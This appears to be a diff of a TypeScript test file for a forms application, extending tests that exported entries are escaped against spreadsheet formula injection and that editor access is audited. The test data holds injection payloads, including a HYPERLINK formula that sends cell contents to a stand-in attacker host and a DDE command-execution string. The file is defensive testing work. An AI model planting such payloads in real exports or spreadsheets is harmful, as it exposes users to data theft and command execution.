@@ -73,7 +73,8 @@ test('editors export all entries as a table with a column for every field of any
 test('texts that a spreadsheet would take for formulas are harmless in it [X6]', async () => {
   const hostile = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '＝1', '＋1', '－1', '＠1', '=HYPERLINK("https://evil.test?"&A1)', "=cmd|'/c calc'!A1"];
   for (const text of hostile) expect(harmless(text), JSON.stringify(text)).toBe(`'${text}`);
-  for (const text of ['1=1', 'a+b', '', 'Ana', '(555) 010-0123', "'=1"]) expect(harmless(text)).toBe(text);
+  for (const text of ['1=1', 'a+b', '', 'Ana', '(555) 010-0123', "'=1", 'a; b', 'a\nb', 'Mon - Fri; 9-5']) expect(harmless(text)).toBe(text);
+  for (const [text, safe] of [['a;=1+1', "a;'=1+1"], ['a\n=1', "a\n'=1"], ['a\t @x', "a\t '@x"], ['a;"=1"', `a;"'=1"`], ['=1;=2', "'=1;'=2"], ['a; ＝1', "a; '＝1"]] as const) expect(harmless(text), text).toBe(safe);
   expect(harmless(-12)).toBe(-12);
   const { formId } = await publishForm(aForm({ title: '=1+1', fields: [{ type: 'TextArea', alias: 'text', label: '=label()' }] }));
   for (const text of hostile) await send('ana', formId, { text: `${text} x` });
@@ -121,7 +122,7 @@ test('each look of an editor at entries is written down before it is answered; n
   const { db } = shared();
   const { formId } = await publishForm();
   await send('ana', formId, { name: 'very-private-words' });
-  expect(await shared().as('edda').call(listFormEntries, { params: { formId }, query: {} })).toMatchObject({ total: 1, items: [{ formVersion: 1, person: { name: 'Ana Brandt', email: null }, values: { name: 'very-private-words' } }] });
+  expect(await shared().as('edda').call(listFormEntries, { params: { formId }, query: {} })).toMatchObject({ total: 1, title: 'Request', forms: { 1: { formId } }, items: [{ formVersion: 1, person: { name: 'Ana Brandt', email: null }, values: { name: 'very-private-words' } }] });
   await exported(formId, 'csv');
   await exported(formId, 'xlsx');
   const trail = await db.selectFrom('audit_log').select(['action', 'details']).where('object_id', '=', formId).where('action', '<>', 'form.submitted').orderBy('id').execute();
@@ -130,7 +131,7 @@ test('each look of an editor at entries is written down before it is answered; n
   ]);
   expect(JSON.stringify([trail, shared().logged])).not.toContain('very-private-words');
   expect(await shared().as('ana').fail(listFormEntries, { params: { formId }, query: {} })).toMatchObject({ status: 404 });
-  expect(await shared().as('edda').call(listFormEntries, { params: { formId }, query: { page: '2' } })).toMatchObject({ total: 1, items: [] });
+  expect(await shared().as('edda').call(listFormEntries, { params: { formId }, query: { page: '2' } })).toMatchObject({ total: 1, items: [], forms: {} });
   expect(await shared().as('edda').fail(listFormEntries, { params: { formId: randomUUID() }, query: {} })).toMatchObject({ status: 404 });
 });
 
